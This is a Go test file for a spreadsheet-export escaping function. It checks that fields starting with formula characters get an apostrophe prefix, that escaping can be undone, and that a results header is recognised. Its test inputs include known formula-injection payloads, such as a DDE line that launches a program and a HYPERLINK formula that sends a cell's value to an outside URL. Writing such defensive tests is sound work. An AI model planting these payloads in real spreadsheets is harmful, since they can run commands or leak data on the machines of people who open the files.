// SPDX-License-Identifier: Apache-2.0

package sheet

import (
	"strings"
	"testing"

	"pgregory.net/rapid"
)

func TestEscape(t *testing.T) {
	for what, fields := range map[string][]string{
		"formulas": {
			"=1+1", "+49 30 1234", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "＝1+1", "＋1", "－1", "＠x",
			`=HYPERLINK("http://x?"&A1)`, "=cmd|'/C calc'!A0",
		},
		"numbers":       {"00123", "123456789012", "1e5", "1E+11", "1.5", ".5", "1,000", "50%", "5€"},
		"dates":         {"2026-11-26", "1/2", "12:30", "12:30 pm", "MAR1", "1-Sep", "sept2", "Dec 2026", "March"},
		"truth values":  {"TRUE", "false"},
		"an apostrophe": {"'quoted'", "''"},
	} {
		for _, field := range fields {
			if got := Escape(field); got != "'"+field {
				t.Errorf("%s: %q becomes %q", what, field, got)
			}
		}
	}
	for field, want := range map[string]string{
		"x;=1+1": "x;'=1+1", "x\n=1+1;y": "x\n'=1+1;y", "a;'b": "a;''b", "=1; @x": "'=1;' @x", "x\t-1": "x\t'-1",
		"x,=1+1": "x,'=1+1", "O,'Neil": "O,''Neil", "\n\n=1": "'\n\n'=1",
	} {
		if got := Escape(field); got != want {
			t.Errorf("formulas behind other separators: %q becomes %q", field, got)
		}
	}
	for _, field := range []string{
		"a; b", "line\nbreak", "'a', 'b'"[1:],
		"", "demo@runalloy.com", "user_12345", "Gregg Mojica", "12345@example.com", "O'Neil", "a=b", "a-1", "株式会社", "7of9", "marvin",
		"June Carter", "trueman",
	} {
		if got := Escape(field); got != field {
			t.Errorf("%q becomes %q", field, got)
		}
	}
}

// No field that a spreadsheet opens may begin with what starts a formula, whatever a user or the API made of it, and nothing is lost.
func TestEscape_IsSafeAndReversible(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		field := rapid.OneOf(rapid.String(), rapid.StringMatching(`['=+\-@ \t]{0,4}[a-z0-9=';,\n]{0,4}`)).Draw(t, "field")
		escaped := Escape(field)
		if Unescape(escaped) != field {
			t.Fatalf("%q becomes %q, and then %q", field, escaped, Unescape(escaped))
		}
		for _, part := range strings.FieldsFunc(escaped, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
			if first := strings.TrimLeft(part, " "); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
				t.Fatalf("%q has a formula", escaped)
			}
		}
	})
}

func TestIsResults(t *testing.T) {
	for what, test := range map[string]struct {
		header []string
		want   bool
	}{
		"the header that results writes":         {Header(), true},
		"with a byte order mark":                 {append([]string{"\ufeffusername"}, Header()[1:]...), true},
		"in another order and case":              {[]string{"Result", " Username ", "REASON"}, true},
		"an ordinary list":                       {[]string{"username", "fullName"}, false},
		"a list with a column that is called so": {[]string{"username", "result"}, false},
	} {
		if got := IsResults(test.header); got != test.want {
			t.Errorf("%s: %t", what, got)
		}
	}
}
